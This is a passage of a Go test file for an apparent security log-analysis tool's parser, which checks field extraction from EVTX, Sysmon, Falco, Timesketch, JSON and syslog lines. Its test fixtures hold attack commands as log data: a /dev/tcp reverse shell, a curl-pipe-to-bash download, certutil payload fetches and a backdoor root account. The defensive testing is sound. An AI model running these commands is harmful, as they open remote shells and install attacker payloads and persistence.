package source

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loupe-sec/loupe/internal/event"
	"github.com/tidwall/gjson"
)

// want lists the event fields a test checks; zero values are checked too,
// except ID, which is only checked when set.
type want struct {
	ID          string
	Index       string
	Format      event.Format
	Time        string // RFC 3339 with nanoseconds, "" for the zero time
	Host        string
	User        string
	Message     string
	EventID     int
	Channel     string
	Provider    string
	Image       string
	CommandLine string
	ParentImage string
	TargetUser  string
	SrcIP       string
	LogonType   int
	Program     string
	Rule        string
	Priority    string
	Tags        []string
	DataPath    string
	Data        map[string]string // Event.Data lookups
}

func check(t *testing.T, ev *event.Event, w want) {
	t.Helper()
	tm := ""
	if !ev.Time.IsZero() {
		tm = ev.Time.UTC().Format(time.RFC3339Nano)
	}
	got := []struct {
		name      string
		got, want any
	}{
		{"Index", ev.Index, w.Index},
		{"Format", ev.Format, w.Format},
		{"Time", tm, w.Time},
		{"Host", ev.Host, w.Host},
		{"User", ev.User, w.User},
		{"Message", ev.Message, w.Message},
		{"EventID", ev.EventID, w.EventID},
		{"Channel", ev.Channel, w.Channel},
		{"Provider", ev.Provider, w.Provider},
		{"Image", ev.Image, w.Image},
		{"CommandLine", ev.CommandLine, w.CommandLine},
		{"ParentImage", ev.ParentImage, w.ParentImage},
		{"TargetUser", ev.TargetUser, w.TargetUser},
		{"SrcIP", ev.SrcIP, w.SrcIP},
		{"LogonType", ev.LogonType, w.LogonType},
		{"Program", ev.Program, w.Program},
		{"Rule", ev.Rule, w.Rule},
		{"Priority", ev.Priority, w.Priority},
		{"Tags", strings.Join(ev.Tags, ","), strings.Join(w.Tags, ",")},
		{"DataPath", ev.DataPath, w.DataPath},
	}
	for _, g := range got {
		if g.got != g.want {
			t.Errorf("%s = %q, want %q", g.name, g.got, g.want)
		}
	}
	if w.ID != "" && ev.ID != w.ID {
		t.Errorf("ID = %q, want %q", ev.ID, w.ID)
	}
	if ev.ID == "" {
		t.Error("empty ID")
	}
	for k, v := range w.Data {
		if got, ok := ev.Data(k); !ok || got != v {
			t.Errorf("Data(%q) = %q, %v; want %q", k, got, ok, v)
		}
	}
}

type lineCase struct {
	name string
	line string
	want want
}

func runLines(t *testing.T, cases []lineCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ev, err := ParseLine([]byte(c.line), 7, Options{Name: "test"})
			if err != nil {
				t.Fatalf("ParseLine: %v", err)
			}
			if ev.Line != 7 {
				t.Errorf("Line = %d, want 7", ev.Line)
			}
			check(t, ev, c.want)
		})
	}
}

func TestParseEVTX(t *testing.T) {
	runLines(t, []lineCase{
		{
			name: "sysmon 1, #attributes form",
			line: `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2019-03-19T23:34:17.123456Z"}},"EventRecordID":123,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WKS-01.corp.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"CORP\\alice"}}}`,
			want: want{ID: "WKS-01.corp.local:Microsoft-Windows-Sysmon/Operational:123", Format: event.FormatEVTX, Time: "2019-03-19T23:34:17.123456Z",
				Host: "WKS-01.corp.local", User: `CORP\alice`, EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Provider: "Microsoft-Windows-Sysmon",
				Image: `C:\Windows\System32\certutil.exe`, CommandLine: "certutil -urlcache -f http://x/a.exe a.exe", ParentImage: `C:\Windows\System32\cmd.exe`,
				DataPath: "Event.EventData", Data: map[string]string{"CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"}},
		},
		{
			name: "4625 with label fields outside Event",
			line: `{"label":"attack","Event":{"System":{"Provider":{"Name":"Microsoft-Windows-Security-Auditing"},"EventID":"4625","TimeCreated":{"SystemTime":"2024-03-19T23:30:01.1200000Z"},"EventRecordID":"48213","Channel":"Security","Computer":"FS01"},"EventData":{"SubjectUserName":"FS01$","TargetUserName":"administrator","LogonType":"10","IpAddress":"203.0.113.45","IpPort":"55118"}}}`,
			want: want{ID: "FS01:Security:48213", Format: event.FormatEVTX, Time: "2024-03-19T23:30:01.12Z", Host: "FS01", User: "FS01$",
				EventID: 4625, Channel: "Security", Provider: "Microsoft-Windows-Security-Auditing", TargetUser: "administrator",
				SrcIP: "203.0.113.45", LogonType: 10, DataPath: "Event.EventData", Data: map[string]string{"IpPort": "55118"}},
		},
		{
			name: "4688 names and dash address",
			line: `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4688,"Channel":"Security","Computer":"DC01"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"whoami /all","IpAddress":"-"}}}`,
			want: want{Format: event.FormatEVTX, Host: "DC01", EventID: 4688, Channel: "Security", Provider: "Microsoft-Windows-Security-Auditing",
				Image: `C:\Windows\System32\whoami.exe`, ParentImage: `C:\Windows\System32\cmd.exe`, CommandLine: "whoami /all", DataPath: "Event.EventData"},
		},
		{
			name: "7045 with #text EventID",
			line: `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","EventSourceName":"Service Control Manager"}},"EventID":{"#text":7045,"#attributes":{"Qualifiers":16384}},"Channel":"System","Computer":"FS01","EventRecordID":9},"EventData":{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe"}}}`,
			want: want{ID: "FS01:System:9", Format: event.FormatEVTX, Host: "FS01", EventID: 7045, Channel: "System", Provider: "Service Control Manager",
				Program: "PSEXESVC", DataPath: "Event.EventData", Data: map[string]string{"ImagePath": `%SystemRoot%\PSEXESVC.exe`}},
		},
		{
			name: "4732 Data list",
			line: `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Security-Auditing"},"EventID":4732,"Channel":"Security","Computer":"FS01"},"EventData":{"Data":[{"@Name":"MemberSid","#text":"S-1-5-21-1-2-3-1013"},{"@Name":"TargetUserName","#text":"Administrators"},{"@Name":"SubjectUserName","#text":"Administrator"}]}}}`,
			want: want{Format: event.FormatEVTX, Host: "FS01", EventID: 4732, Channel: "Security", Provider: "Microsoft-Windows-Security-Auditing",
				TargetUser: "Administrators", User: "Administrator", DataPath: "loupe_event_data", Data: map[string]string{"MemberSid": "S-1-5-21-1-2-3-1013"}},
		},
		{
			name: "1102 UserData",
			line: `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,"Channel":"Security","Computer":"FS01"},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserName":"Administrator","SubjectDomainName":"ACME"}}}}`,
			want: want{Format: event.FormatEVTX, Host: "FS01", EventID: 1102, Channel: "Security", Provider: "Microsoft-Windows-Eventlog",
				User: "Administrator", DataPath: "Event.UserData.LogFileCleared", Data: map[string]string{"SubjectDomainName": "ACME"}},
		},
		{
			name: "sysmon 10 uses SourceImage",
			line: `{"Event":{"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":10,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FS01"},"EventData":{"SourceImage":"C:\\Users\\Public\\m.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1010","SourceUser":"ACME\\bob"}}}`,
			want: want{Format: event.FormatEVTX, Host: "FS01", EventID: 10, Channel: "Microsoft-Windows-Sysmon/Operational", Provider: "Microsoft-Windows-Sysmon",
				Image: `C:\Users\Public\m.exe`, User: `ACME\bob`, DataPath: "Event.EventData", Data: map[string]string{"GrantedAccess": "0x1010", "TargetImage": `C:\Windows\system32\lsass.exe`}},
		},
		{
			name: "winlogbeat",
			line: `{"@timestamp":"2024-03-19T23:33:00.889Z","host":{"name":"fs01.acme.local"},"event":{"code":"1"},"message":"Process Create","process":{"command_line":"powershell -enc AAAA","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}},"winlog":{"event_id":1,"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"FS01.acme.local","record_id":4711,"event_data":{"User":"ACME\\bob","IntegrityLevel":"High"}}}`,
			want: want{ID: "FS01.acme.local:Microsoft-Windows-Sysmon/Operational:4711", Format: event.FormatEVTX, Time: "2024-03-19T23:33:00.889Z",
				Host: "FS01.acme.local", User: `ACME\bob`, Message: "Process Create", EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational",
				Provider: "Microsoft-Windows-Sysmon", Image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, CommandLine: "powershell -enc AAAA",
				ParentImage: `C:\Windows\System32\cmd.exe`, DataPath: "winlog.event_data", Data: map[string]string{"IntegrityLevel": "High"}},
		},
	})
}

func TestParseFalco(t *testing.T) {
	runLines(t, []lineCase{
		{
			name: "terminal shell",
			line: `{"hostname":"node-1","output":"10:00:00.123456789: Notice A shell was spawned","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container","mitre_execution","T1059"],"time":"2024-01-01T10:00:00.123456789Z","output_fields":{"proc.cmdline":"bash -i","proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.pname":"runc","user.name":"root","container.id":"3ad7b26ded6d","fd.sip":"10.0.0.9"}}`,
			want: want{Format: event.FormatFalco, Time: "2024-01-01T10:00:00.123456789Z", Host: "node-1", User: "root",
				Message: "10:00:00.123456789: Notice A shell was spawned", Image: "/usr/bin/bash", CommandLine: "bash -i", ParentImage: "runc",
				SrcIP: "10.0.0.9", Rule: "Terminal shell in container", Priority: "Notice", Tags: []string{"container", "mitre_execution", "T1059"},
				DataPath: "output_fields", Data: map[string]string{"container.id": "3ad7b26ded6d"}},
		},
		{
			name: "no exepath, rip",
			line: `{"output":"x","priority":"Warning","rule":"Netcat Remote Code Execution in Container","time":"2024-01-01T10:00:01Z","output_fields":{"proc.name":"nc","fd.rip":"198.51.100.23"}}`,
			want: want{Format: event.FormatFalco, Time: "2024-01-01T10:00:01Z", Message: "x", Image: "nc", SrcIP: "198.51.100.23",
				Rule: "Netcat Remote Code Execution in Container", Priority: "Warning", DataPath: "output_fields"},
		},
	})
}

const plasoXML = `<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n  <System>\n    <Provider Name=\"Microsoft-Windows-Sysmon\"/>\n    <EventID>1</EventID>\n    <EventRecordID>190240</EventRecordID>\n    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>\n    <Computer>FS01.acme.local</Computer>\n  </System>\n  <EventData>\n    <Data Name=\"Image\">C:\\Windows\\System32\\certutil.exe</Data>\n    <Data Name=\"CommandLine\">certutil.exe -f http://198.51.100.7/a.exe &amp;&amp; echo &quot;x&quot; &lt;y&gt;</Data>\n    <Data Name=\"ParentImage\">C:\\Windows\\System32\\cmd.exe</Data>\n    <Data Name=\"User\">ACME\\Administrator</Data>\n    <Data Name=\"Empty\"/>\n  </EventData>\n</Event>\n`

func TestParseTimesketch(t *testing.T) {
	evtxSource := `{"data_type":"windows:evtx:record","datetime":"2024-03-19T23:34:20.677Z","timestamp":1710891260677259,"timestamp_desc":"Creation Time","event_identifier":1,"source_name":"Microsoft-Windows-Sysmon","computer_name":"FS01.acme.local","message":"[1 / 0x0001] Provider name: Microsoft-Windows-Sysmon","record_number":190240,"xml_string":"` + plasoXML + `"}`
	evtxWant := want{ID: "8XdJUJgB092O9Z5p3KNH", Index: "4c5afdf6", Format: event.FormatTimesketch, Time: "2024-03-19T23:34:20.677259Z",
		Host: "FS01.acme.local", User: `ACME\Administrator`, Message: "[1 / 0x0001] Provider name: Microsoft-Windows-Sysmon", EventID: 1,
		Channel: "Microsoft-Windows-Sysmon/Operational", Provider: "Microsoft-Windows-Sysmon", Image: `C:\Windows\System32\certutil.exe`,
		CommandLine: `certutil.exe -f http://198.51.100.7/a.exe && echo "x" <y>`, ParentImage: `C:\Windows\System32\cmd.exe`, DataPath: "loupe_event_data",
		Data: map[string]string{"CommandLine": `certutil.exe -f http://198.51.100.7/a.exe && echo "x" <y>`, "Empty": ""}}
	syslogSource := `{"data_type":"syslog:line","datetime":"2024-03-19T23:21:04.000Z","timestamp":1710890464000000,"hostname":"web01","reporter":"sshd","pid":2725,"body":"Failed password for invalid user oracle from 198.51.100.23 port 40000 ssh2","message":"[sshd, pid: 2725] Failed password for invalid user oracle from 198.51.100.23 port 40000 ssh2"}`
	syslogWant := want{ID: "zoN5ouP47ULvjfb7-kQH", Index: "4c5afdf6", Format: event.FormatTimesketch, Time: "2024-03-19T23:21:04Z", Host: "web01",
		Message: "[sshd, pid: 2725] Failed password for invalid user oracle from 198.51.100.23 port 40000 ssh2", TargetUser: "oracle", SrcIP: "198.51.100.23", Program: "sshd",
		Data: map[string]string{"pid": "2725"}}
	flat := func(src, id string) string {
		return src[:len(src)-1] + `,"_id":"` + id + `","__ts_index_name":"4c5afdf6","__ts_timeline_id":3}`
	}
	runLines(t, []lineCase{
		{name: "nested evtx", line: `{"_index":"4c5afdf6","_id":"8XdJUJgB092O9Z5p3KNH","_source":` + evtxSource + `}`, want: evtxWant},
		{name: "flat evtx", line: flat(evtxSource, "8XdJUJgB092O9Z5p3KNH"), want: evtxWant},
		{name: "nested syslog", line: `{"_index":"4c5afdf6","_id":"zoN5ouP47ULvjfb7-kQH","_source":` + syslogSource + `}`, want: syslogWant},
		{name: "flat syslog", line: flat(syslogSource, "zoN5ouP47ULvjfb7-kQH"), want: syslogWant},
	})
	// Raw of the nested form is the _source object.
	ev, err := ParseLine([]byte(`{"_index":"i","_id":"a","_source":`+syslogSource+`}`), 1, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if string(ev.Raw) != syslogSource {
		t.Errorf("Raw = %s, want the _source object", ev.Raw)
	}
}

func TestParseGenericJSON(t *testing.T) {
	runLines(t, []lineCase{
		{
			name: "epoch seconds float, msg",
			line: `{"ts":1710752403.344,"level":"info","msg":"order created","user":"c.nguyen@example.com"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03.344Z", Message: "order created", User: "c.nguyen@example.com"},
		},
		{
			name: "epoch ms, text, hostname, program",
			line: `{"timestamp":1710752403344,"text":"GET /api 200","hostname":"app03","program":"stock-svc"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03.344Z", Message: "GET /api 200", Host: "app03", Program: "stock-svc"},
		},
		{
			name: "epoch ns string, ECS objects",
			line: `{"@timestamp":"1710752403344000001","message":"x","host":{"name":"app02"},"user":{"name":"bob"},"source":{"ip":"10.0.0.1"},"process":{"command_line":"curl x"}}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03.344000001Z", Message: "x", Host: "app02", User: "bob", SrcIP: "10.0.0.1", CommandLine: "curl x"},
		},
		{
			name: "epoch µs, dotted keys",
			line: `{"time":1710752403344001,"host.name":"h1","user.name":"u1","source.ip":"10.1.1.1","process.command_line":"id"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03.344001Z", Host: "h1", User: "u1", SrcIP: "10.1.1.1", CommandLine: "id"},
		},
		{
			name: "cloudtrail-like",
			line: `{"eventTime":"2024-03-18T09:00:03Z","eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser","userName":"alice"},"sourceIPAddress":"203.0.113.9"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03Z", User: "alice", SrcIP: "203.0.113.9"},
		},
		{
			name: "offset time, nginx",
			line: `{"time":"2024-03-18T10:00:39+01:00","remote_addr":"10.0.1.120","request":"GET / HTTP/1.1","host":"app02"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:39Z", Host: "app02", SrcIP: "10.0.1.120"},
		},
		{
			name: "journald sshd",
			line: `{"__REALTIME_TIMESTAMP":"1710890464000000","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Accepted publickey for deploy from 10.0.0.5 port 51509 ssh2: ED25519 SHA256:x"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-19T23:21:04Z", Host: "web01", Program: "sshd",
				Message: "Accepted publickey for deploy from 10.0.0.5 port 51509 ssh2: ED25519 SHA256:x", TargetUser: "deploy", SrcIP: "10.0.0.5"},
		},
		{
			name: "cmdline, ident, bad first time",
			line: `{"date":"yesterday","datetime":"2024-03-18 09:00:03.5","log":"started","ident":"cron","cmdline":"/bin/sh -c x","computer":"c1"}`,
			want: want{Format: event.FormatJSON, Time: "2024-03-18T09:00:03.5Z", Message: "started", Program: "cron", CommandLine: "/bin/sh -c x", Host: "c1"},
		},
		{
			name: "no known fields",
			line: `{"a":1,"b":[1,2,{"c":null}]}`,
			want: want{Format: event.FormatJSON, Data: map[string]string{"a": "1"}},
		},
	})
}

func TestParseSyslog(t *testing.T) {
	old := now
	now = func() time.Time { return time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC) }
	defer func() { now = old }()
	runLines(t, []lineCase{
		{
			name: "rfc3164 sshd failure",
			line: "Mar 19 23:34:17 web01 sshd[123]: Failed password for invalid user admin from 10.1.2.3 port 4242 ssh2",
			want: want{Format: event.FormatSyslog, Time: "2024-03-19T23:34:17Z", Host: "web01", Program: "sshd",
				Message: "Failed password for invalid user admin from 10.1.2.3 port 4242 ssh2", TargetUser: "admin", SrcIP: "10.1.2.3"},
		},
		{
			name: "rfc3164 with pri and single-digit day",
			line: "<38>Mar  9 01:02:03 web01 sshd[9]: Accepted publickey for deploy from 10.0.0.5 port 5 ssh2: RSA SHA256:abc",
			want: want{Format: event.FormatSyslog, Time: "2024-03-09T01:02:03Z", Host: "web01", Program: "sshd",
				Message: "Accepted publickey for deploy from 10.0.0.5 port 5 ssh2: RSA SHA256:abc", TargetUser: "deploy", SrcIP: "10.0.0.5"},
		},
		{
			name: "rfc5424",
			line: `<34>1 2024-01-01T10:00:00Z host1 app 123 ID47 [exampleSDID@32473 iut="3" eventSource="App\]x"] hello world`,
			want: want{Format: event.FormatSyslog, Time: "2024-01-01T10:00:00Z", Host: "host1", Program: "app", Message: "hello world"},
		},
		{
			name: "rfc5424 nil fields",
			line: "<34>1 - - - - - - msg",
			want: want{Format: event.FormatSyslog, Message: "msg"},
		},
		{
			name: "iso syslog",
			line: "2024-01-01T10:00:00.123+01:00 host2 sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
			want: want{Format: event.FormatSyslog, Time: "2024-01-01T09:00:00.123Z", Host: "host2", Program: "sudo",
				Message: "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash", User: "alice", TargetUser: "root", CommandLine: "/bin/bash"},
		},
		{
			name: "no hostname",
			line: "Mar 19 23:34:17 sshd[1]: error: kex_exchange_identification: Connection closed by remote host",
			want: want{Format: event.FormatSyslog, Time: "2024-03-19T23:34:17Z", Program: "sshd", Message: "error: kex_exchange_identification: Connection closed by remote host"},
		},
		{
			name: "no tag",
			line: "Mar 19 23:34:17 web01 something happened",
			want: want{Format: event.FormatSyslog, Time: "2024-03-19T23:34:17Z", Host: "web01", Message: "something happened"},
		},
	})
}

func TestSyslogYear(t *testing.T) {
	old := now
	defer func() { now = old }()
	now = func() time.Time { return time.Date(2025, 1, 2, 3, 0, 0, 0, time.UTC) }
	ev, err := ParseLine([]byte("Dec 31 23:00:00 h p: x"), 1, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := ev.Time.Year(); got != 2024 {
		t.Errorf("December line read in early January: year %d, want 2024", got)
	}
	ev, _ = ParseLine([]byte("Jan  2 12:00:00 h p: x"), 1, Options{})
	if got := ev.Time.Year(); got != 2025 {
		t.Errorf("line from later today: year %d, want 2025", got)
	}
	ev, _ = ParseLine([]byte("Feb 29 12:00:00 h p: x"), 1, Options{})
	if ev.Time.Year() != 2024 || ev.Time.Month() != time.February || ev.Time.Day() != 29 {
		t.Errorf("Feb 29 read as %v, want 2024-02-29", ev.Time)
	}
}

func TestMessageAnalysis(t *testing.T) {
	cases := []struct {
		program, msg          string
		user, target, ip, cmd string
	}{
		{"sshd", "Failed password for root from 198.51.100.23 port 40000 ssh2", "", "root", "198.51.100.23", ""},
		{"sshd", "Failed publickey for git from 2001:db8::1 port 22 ssh2: RSA SHA256:x", "", "git", "2001:db8::1", ""},
		{"sshd", "Accepted password for root from 198.51.100.23 port 40211 ssh2", "", "root", "198.51.100.23", ""},
		{"sshd", "Invalid user oracle from 198.51.100.23 port 40014", "", "oracle", "198.51.100.23", ""},
		{"sshd", "Connection closed by authenticating user root 198.51.100.23 port 4 [preauth]", "", "root", "198.51.100.23", ""},
		{"sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.23  user=root", "", "root", "198.51.100.23", ""},
		{"sudo", "backdoor : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "backdoor", "root", "", "/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"},
		{"sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", "alice", "root", "", "/usr/bin/id"},
		{"CRON", "(root) CMD (curl -fsSL http://198.51.100.23/x.sh | bash)", "root", "", "", "curl -fsSL http://198.51.100.23/x.sh | bash"},
		{"useradd", "new user: name=backdoor, UID=0, GID=1002, home=/home/backdoor, shell=/bin/bash", "", "backdoor", "", ""},
		{"usermod", "add 'backdoor' to group 'sudo'", "", "backdoor", "", ""},
		{"usermod", "add 'backdoor' to shadow group 'sudo'", "", "backdoor", "", ""},
		{"gpasswd", "user backdoor added by root to group sudo", "root", "backdoor", "", ""},
		{"userdel", "delete user 'olduser'", "", "olduser", "", ""},
		{"passwd", "pam_unix(passwd:chauthtok): password changed for bob", "", "bob", "", ""},
		{"CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "", "", "", ""},
		{"sshd", "Received disconnect from 10.0.0.5 port 46432:11: disconnected by user", "", "", "", ""},
	}
	for _, c := range cases {
		var ev event.Event
		analyzeMessage(&ev, c.program, c.msg)
		if ev.User != c.user || ev.TargetUser != c.target || ev.SrcIP != c.ip || ev.CommandLine != c.cmd {
			t.Errorf("%s %q:\n got user=%q target=%q ip=%q cmd=%q\nwant user=%q target=%q ip=%q cmd=%q",
				c.program, c.msg, ev.User, ev.TargetUser, ev.SrcIP, ev.CommandLine, c.user, c.target, c.ip, c.cmd)
		}
	}
}

// collect reads everything and splits events from errors.
func collect(t *testing.T, r io.Reader, opt Options) ([]*event.Event, []error) {
	t.Helper()
	var evs []*event.Event
	var errs []error
	for ev, err := range Read(context.Background(), r, opt) {
		if err != nil {
			errs = append(errs, err)
			continue
		}
		evs = append(evs, ev)
	}
	return evs, errs
}

func lineOf(t *testing.T, err error) int64 {
	t.Helper()
	var le *LineError
	if !errors.As(err, &le) {
		t.Fatalf("error %v is not a *LineError", err)
	}
	return le.Line
}

func TestReadLineNumbers(t *testing.T) {
	input := strings.Join([]string{
		`{"msg":"one"}`,
		``,
		`   `,
		`{"msg": broken`,
		`Mar 19 23:34:17 web01 sshd[1]: two`,
		`not a log line`,
		`{"msg":"three"}`,
	}, "\n") // no trailing newline on the last line
	evs, errs := collect(t, strings.NewReader(input), Options{Name: "t"})
	var lines []int64
	for _, ev := range evs {
		lines = append(lines, ev.Line)
	}
	if fmt.Sprint(lines) != "[1 5 7]" {
		t.Errorf("event lines %v, want [1 5 7]", lines)
	}
	if len(errs) != 2 || lineOf(t, errs[0]) != 4 || lineOf(t, errs[1]) != 6 {
		t.Fatalf("errors %v, want LineErrors for lines 4 and 6", errs)
	}
	if !errors.Is(errs[0], ErrInvalidJSON) || !errors.Is(errs[1], ErrUnknownLine) {
		t.Errorf("errors %v, want invalid JSON then unknown line", errs)
	}
	if !strings.Contains(errs[0].Error(), "line 4") {
		t.Errorf("error text %q does not name the line", errs[0])
	}
}

func TestReadOversizedLine(t *testing.T) {
	for _, size := range []int{150, 200 << 10} { // within and far beyond the read buffer
		t.Run(fmt.Sprint(size), func(t *testing.T) {
			long := `{"msg":"` + strings.Repeat("x", size) + `"}`
			exact := `{"msg":"` + strings.Repeat("y", 100-10) + `"}` // exactly 100 bytes
			input := `{"msg":"a"}` + "\n" + long + "\n" + exact + "\r\n" + `{"msg":"b"}` + "\n"
			evs, errs := collect(t, strings.NewReader(input), Options{MaxLineBytes: 100})
			if len(errs) != 1 || lineOf(t, errs[0]) != 2 || !errors.Is(errs[0], ErrLineTooLong) {
				t.Fatalf("errors %v, want one ErrLineTooLong on line 2", errs)
			}
			if len(evs) != 3 || evs[0].Message != "a" || evs[1].Line != 3 || len(evs[1].Message) != 90 || evs[2].Message != "b" || evs[2].Line != 4 {
				t.Fatalf("got %d events, want a, the 100-byte line and b on lines 1, 3, 4", len(evs))
			}
		})
	}
	if _, err := ParseLine([]byte(strings.Repeat("x", 101)), 3, Options{MaxLineBytes: 100}); !errors.Is(err, ErrLineTooLong) || lineOf(t, err) != 3 {
		t.Errorf("ParseLine oversized: %v", err)
	}
}

func TestReadGzipAndCRLF(t *testing.T) {
	plain := "{\"msg\":\"one\",\"host\":\"h\"}\r\n\r\nMar 19 23:34:17 web01 sshd[1]: two\r\n{\"msg\":\"three\"}"
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(plain))
	zw.Close()
	for name, r := range map[string]io.Reader{"plain": strings.NewReader(plain), "gzip": &gz} {
		evs, errs := collect(t, r, Options{})
		if len(errs) != 0 || len(evs) != 3 {
			t.Fatalf("%s: %d events, errors %v; want 3 events", name, len(evs), errs)
		}
		if evs[0].Host != "h" || evs[1].Message != "two" || evs[2].Message != "three" || evs[2].Line != 4 {
			t.Errorf("%s: CRLF not stripped or lines wrong: %q %q %q line %d", name, evs[0].Host, evs[1].Message, evs[2].Message, evs[2].Line)
		}
		if bytes.HasSuffix(evs[0].Raw, []byte("\r")) {
			t.Errorf("%s: Raw keeps the CR", name)
		}
	}
	// A corrupt gzip stream ends the read with an error that is not a LineError.
	bad := append([]byte{0x1f, 0x8b}, []byte("garbage")...)
	_, errs := collect(t, bytes.NewReader(bad), Options{})
	var le *LineError
	if len(errs) != 1 || errors.As(errs[0], &le) {
		t.Errorf("corrupt gzip: errors %v, want one non-line error", errs)
	}
}

func TestNaNLeniency(t *testing.T) {
	ev, err := ParseLine([]byte(`{"_id":"x","_index":"i","pid":NaN,"a":-Infinity,"b":[Infinity],"message":"NaN stays NaN","reporter":"sudo"}`), 1, Options{})
	if err != nil {
		t.Fatalf("bare NaN not accepted: %v", err)
	}
	if v, ok := ev.Field("pid"); !ok || v != "" {
		t.Errorf("pid = %q, want null", v)
	}
	if ev.Message != "NaN stays NaN" || ev.Program != "sudo" || ev.ID != "x" {
		t.Errorf("fields after NaN rewrite: %q %q %q", ev.Message, ev.Program, ev.ID)
	}
	for _, bad := range []string{
		`{"a":NaNa}`,
		`{"a":NaN,}`,
		`{"a":nan}`,
		`{"a":"x" NaN}`,
	} {
		if _, err := ParseLine([]byte(bad), 2, Options{}); !errors.Is(err, ErrInvalidJSON) || lineOf(t, err) != 2 {
			t.Errorf("%s: err %v, want invalid JSON on line 2", bad, err)
		}
	}
}

func TestNonASCIIEscapes(t *testing.T) {
	ev, err := ParseLine([]byte(`{"message":"caf\u00e9 \ud83d\ude00 \u65e5\u672c","user":"J\u00fcrgen","host":"h\u00f6st"}`), 1, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if ev.Message != "café 😀 日本" || ev.User != "Jürgen" || ev.Host != "höst" {
		t.Errorf("got %q %q %q", ev.Message, ev.User, ev.Host)
	}
	ev, err = ParseLine([]byte(`{"message":"raw UTF-8 ünïcödé"}`), 1, Options{})
	if err != nil || ev.Message != "raw UTF-8 ünïcödé" {
		t.Errorf("raw UTF-8: %q %v", ev.Message, err)
	}
}

func TestStableIDs(t *testing.T) {
	input := "Mar 19 23:34:17 web01 sshd[1]: a\n{\"msg\":\"b\"}\n{\"msg\":\"b\"}\nMar 19 23:34:17 web01 sshd[1]: c\n" +
		`{"Event":{"System":{"EventID":1,"Channel":"Security","Computer":"H","EventRecordID":5}}}` + "\n"
	ids := func(name string) []string {
		evs, errs := collect(t, strings.NewReader(input), Options{Name: name})
		if len(errs) != 0 {
			t.Fatal(errs)
		}
		var out []string
		for _, ev := range evs {
			out = append(out, ev.ID)
		}
		return out
	}
	a, b, other := ids("x.log"), ids("x.log"), ids("y.log")
	if fmt.Sprint(a) != fmt.Sprint(b) {
		t.Errorf("same input, different ids: %v vs %v", a, b)
	}
	seen := map[string]bool{}
	for _, id := range a {
		if seen[id] {
			t.Errorf("duplicate id %q in %v (identical lines on different line numbers must differ)", id, a)
		}
		seen[id] = true
	}
	if a[0] == other[0] {
		t.Errorf("input name does not seed derived ids: %v", a[0])
	}
	if a[4] != "H:Security:5" || other[4] != a[4] {
		t.Errorf("EVTX id %q / %q, want H:Security:5", a[4], other[4])
	}
	// A line's id must not change when more events are read after it.
	ev, _ := ParseLine([]byte(`{"msg":"b"}`), 2, Options{Name: "x.log"})
	if ev.ID != a[1] {
